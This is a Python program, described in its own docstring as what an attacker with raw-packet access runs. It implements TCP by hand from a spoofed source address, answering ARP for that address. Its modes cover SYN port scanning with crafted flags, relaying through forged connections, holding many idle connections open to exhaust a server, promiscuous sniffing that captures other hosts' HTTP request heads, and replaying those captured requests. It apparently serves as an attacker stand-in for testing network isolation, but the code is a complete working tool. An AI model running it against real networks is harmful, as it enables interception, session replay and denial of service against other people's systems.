"""
What an attacker runs who may write raw packets: TCP by hand, from an address that nothing has.

    python -c PROGRAM WHAT

WHAT is JSON: an *interface*; the *source* address, which the kernel does not know, so that it hangs
up on nobody; the address of the next *hop*, if there is one; and what to *do*:

    open     first packets with each of *marks* as urgent pointer and each of *flags*, to each of
             *ports* (pairs of address and number): those answered, as [address, port, mark]
    relay    *argv* is run while each of *ports* answers at the port of 127.0.0.1 that *relayed* has
             in its place, by crafted connections; its output
    hold     *count* connections to *ports* in turn, which send *say* (base64) and then nothing;
             they stay open for *seconds*: how many were open
    replay   each of *heads*, a request of HTTP as [address, port, text], is sent: its status, or 0
    sniff    all that passes until the file *until* is there, at most *seconds*; the file *ready*
             says that it has begun: frames, bytes, how often *word* was seen, and all heads of
             requests of HTTP, as above

The last line of output is JSON.
"""

import base64
import contextlib
import itertools
import json
import queue
import random
import re
import socket
import struct
import subprocess
import sys
import threading
import time

from pathlib import Path

ALL, ARP, IP = 0x0003, 0x0806, 0x0800
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
SEGMENT, WINDOW = 1400, 65_000
PATIENCE_S = 3.0
HEAD = re.compile(rb"(?:GET|PUT|POST|DELETE|HEAD|OPTIONS) /[^\r\n]* HTTP/1\.[01]\r\n")
PROMISCUOUS = struct.pack("IHH8s", 0, 1, 0, b"")  # struct packet_mreq


def raw_socket(interface):
    """
    All frames that an interface sees, also those for others.
    """
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL))
    made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2**24)
    made.bind((interface, 0))
    number = socket.if_nametoindex(interface)
    made.setsockopt(263, 1, struct.pack("I", number) + PROMISCUOUS[4:])  # PACKET_ADD_MEMBERSHIP
    return made


def checksum(data):
    """
    That of the Internet's protocols.
    """
    words = struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2))
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Stack:
    """
    TCP by hand on one interface: it answers for its own address, and speaks by made-up frames.
    """

    def __init__(self, interface, source, hop=""):
        self.source, self.hop = socket.inet_aton(source), hop
        self.hardware = bytes([2, *random.randbytes(5)])
        self.wire = raw_socket(interface)
        self.neighbours, self.connections = {}, {}
        self.ports = iter(range(20_000, 65_000))
        self.guard = threading.Lock()
        threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        """
        Hand on what comes for us.
        """
        while True:
            frame = self.wire.recv(2**17)
            kind = int.from_bytes(frame[12:14], "big")
            if kind == ARP and frame[38:42] == self.source:
                self.neighbours[frame[28:32]] = frame[22:28]
                if frame[21] == 1:  # it asks where we are
                    self.send_arp(2, frame[22:28], frame[28:32])
            elif kind == IP and frame[30:34] == self.source and frame[23] == 6:
                start = 14 + (frame[14] & 15) * 4
                segment = frame[start : 14 + int.from_bytes(frame[16:18], "big") or None]
                there, port, our_port = frame[26:30], *struct.unpack("!HH", segment[:4])
                connection = self.connections.get((there, port, our_port))
                if connection:
                    connection.take(segment)

    def send_arp(self, operation, hardware, address):
        """
        Say where we are, or ask where somebody is.
        """
        begin = struct.pack("!HHBBH", 1, IP, 6, 4, operation)
        target = b"\0" * 6 if operation == 1 else hardware
        content = begin + self.hardware + self.source + target + address
        self.wire.send(hardware + self.hardware + struct.pack("!H", ARP) + content)

    def neighbour(self, address):
        """
        Where frames for that address go.
        """
        asked = socket.inet_aton(self.hop or address)
        deadline = time.monotonic() + PATIENCE_S
        while asked not in self.neighbours:
            if time.monotonic() > deadline:
                raise OSError(f"nobody is {self.hop or address}")
            self.send_arp(1, b"\xff" * 6, asked)
            time.sleep(0.1)
        return self.neighbours[asked]

    def send(self, address, segment):
        """
        Send a segment, whose own checksum is still missing.
        """
        there = socket.inet_aton(address)
        pseudo = self.source + there + struct.pack("!HH", 6, len(segment))
        segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
        size = 20 + len(segment)
        head = struct.pack("!BBHHHBBH", 0x45, 0, size, random.getrandbits(16), 0, 64, 6, 0)
        total = checksum(head + self.source + there)
        packet = head[:10] + struct.pack("!H", total) + self.source + there + segment
        frame = self.neighbour(address) + self.hardware + struct.pack("!H", IP) + packet
        self.wire.send(frame)

    def connection(self, address, port):
        """
        One that is not yet open.
        """
        with self.guard:
            made = Connection(self, address, port, next(self.ports))
        self.connections[socket.inet_aton(address), port, made.our_port] = made
        return made


class Connection:
    """
    One connection: what comes is a queue of bytes, whose end is empty bytes.
    """

    def __init__(self, stack, address, port, our_port):
        self.stack, self.address, self.port, self.our_port = stack, address, port, our_port
        self.next = random.getrandbits(31)
        self.expected = None
        self.is_over = False
        self.answered, self.incoming = threading.Event(), queue.Queue()

    def say(self, flags, data=b"", mark=0):
        """
        Send a segment.
        """
        ports = struct.pack("!HH", self.our_port, self.port)
        numbers = struct.pack("!II", self.next % 2**32, (self.expected or 0) % 2**32)
        head = ports + numbers + struct.pack("!BBHHH", 0x50, flags, WINDOW, 0, mark)
        self.stack.send(self.address, head + data)
        self.next += len(data) + bool(flags & (SYN | FIN))

    def open(self, mark=0, patience_s=PATIENCE_S):
        """
        Whether there was an answer.
        """
        self.say(SYN, mark=mark)
        if self.answered.wait(patience_s) and not self.is_over:
            self.say(ACK)
            return True
        return False

    def take(self, segment):
        """
        A segment has come.
        """
        number = int.from_bytes(segment[4:8], "big")
        flags, data = segment[13], segment[(segment[12] >> 4) * 4 :]
        if flags & RST:
            self.is_over = True
            self.incoming.put(b"")
            self.answered.set()
        elif flags & SYN:
            self.expected = number + 1
            self.answered.set()
        elif self.expected is not None and number == self.expected % 2**32:
            self.expected += len(data) + bool(flags & FIN)
            if data:
                self.incoming.put(data)
            if flags & FIN:
                self.incoming.put(b"")
            if data or flags & FIN:
                self.say(ACK)
        elif self.expected is not None and data:  # again, or too early
            self.say(ACK)

    def send(self, data):
        """
        Send all of it.
        """
        for start in range(0, len(data), SEGMENT):
            self.say(PSH | ACK, data[start : start + SEGMENT])

    def close(self):
        """
        Forget it.
        """
        if self.answered.is_set() and not self.is_over:
            self.say(RST | ACK)
        self.stack.connections.pop((socket.inet_aton(self.address), self.port, self.our_port), None)


def open_ports(stack, what):
    """
    First packets with all marks to all ports; those that were answered.
    """
    tried = []
    for mark, flags in itertools.product(what["marks"], what["flags"]):
        for address, port in what["ports"]:
            connection = stack.connection(address, port)
            connection.say(SYN | flags, mark=mark)
            tried.append((connection, mark))
        time.sleep(0.02)
    time.sleep(PATIENCE_S)
    answered = [(c, mark) for c, mark in tried if c.answered.is_set() and not c.is_over]
    for connection, _ in tried:
        connection.close()
    return {
        "tries": len(tried),
        "answered": [[connection.address, connection.port, mark] for connection, mark in answered],
    }


def relay(stack, what):
    """
    Run the command while the ports are relayed.
    """
    opened = []
    for (address, port), here in zip(what["ports"], what["relayed"], strict=True):
        listening = socket.create_server(("127.0.0.1", here), backlog=64)
        arguments = stack, listening, address, port, opened
        threading.Thread(target=serve, args=arguments, daemon=True).start()
    done = subprocess.run(what["argv"], stdout=subprocess.PIPE, text=True, check=True)
    return {"opened": len(opened), "output": done.stdout}


def serve(stack, listening, address, port, opened):
    """
    Connect each that comes.
    """
    while True:
        accepted, _ = listening.accept()
        threading.Thread(
            target=pump, args=(stack, accepted, address, port, opened), daemon=True
        ).start()


def pump(stack, accepted, address, port, opened):
    """
    Pass on what both sides say, until one of them is silent for long.
    """
    connection = stack.connection(address, port)
    try:
        with accepted:
            if not connection.open():
                return
            opened.append(port)
            threading.Thread(target=answer, args=(connection, accepted), daemon=True).start()
            while data := accepted.recv(2**16):
                connection.send(data)
    except OSError:
        pass
    finally:
        connection.close()


def answer(connection, accepted):
    """
    Pass on what comes from there.
    """
    with contextlib.suppress(OSError):
        while data := connection.incoming.get(timeout=60):
            accepted.sendall(data)
        accepted.shutdown(socket.SHUT_RDWR)


def hold(stack, what):
    """
    Keep many connections open that do nothing.
    """
    places = [tuple(place) for place in what["ports"]]
    opened = []
    for number in range(what["count"]):
        connection = stack.connection(*places[number % len(places)])
        connection.say(SYN)
        opened.append(connection)
        if number % 50 == 49:
            time.sleep(0.05)
    time.sleep(1)
    held = [each for each in opened if each.answered.is_set() and not each.is_over]
    for connection in held:
        connection.say(ACK)
        if what["say"]:
            connection.send(base64.b64decode(what["say"]))
    time.sleep(what["seconds"])
    for connection in held:
        connection.close()
    return {"held": len(held)}


def replay(stack, what):
    """
    Send what was seen.
    """
    statuses = []
    for address, port, text in what["heads"]:
        connection = stack.connection(address, port)
        status = 0
        if connection.open():
            connection.send(text.encode("latin-1"))
            with contextlib.suppress(queue.Empty):
                answer = connection.incoming.get(timeout=10)
                status = int(answer.split(b" ")[1]) if answer.startswith(b"HTTP/") else 0
        connection.close()
        statuses.append(status)
    return statuses


def sniff(what):
    """
    Look at all that passes.
    """
    wire = raw_socket(what["interface"])
    wire.settimeout(0.5)
    frames, size, seen, heads = 0, 0, 0, []
    word = what["word"].encode()
    Path(what["ready"]).touch()
    end = time.monotonic() + what["seconds"]
    while time.monotonic() < end and not Path(what["until"]).exists():
        try:
            frame = wire.recv(2**17)
        except TimeoutError:
            continue
        frames += 1
        size += len(frame)
        seen += frame.count(word)
        place = HEAD.search(frame)
        if place:
            head = frame[place.start() :].partition(b"\r\n\r\n")[0] + b"\r\n\r\n"
            heads.append([socket.inet_ntoa(frame[30:34]), int.from_bytes(frame[36:38], "big"),
                          head.decode("latin-1")])  # fmt: skip
    return {"frames": frames, "bytes": size, "seen": seen, "heads": heads}


def main():
    """
    Do what is told.
    """
    what = json.loads(sys.argv[1])
    if what["do"] == "sniff":
        done = sniff(what)
    else:
        stack = Stack(what["interface"], what["source"], what["hop"])
        does = {"open": open_ports, "relay": relay, "hold": hold, "replay": replay}
        done = does[what["do"]](stack, what)
    sys.stdout.write(json.dumps(done) + "\n")


if __name__ == "__main__":
    main()
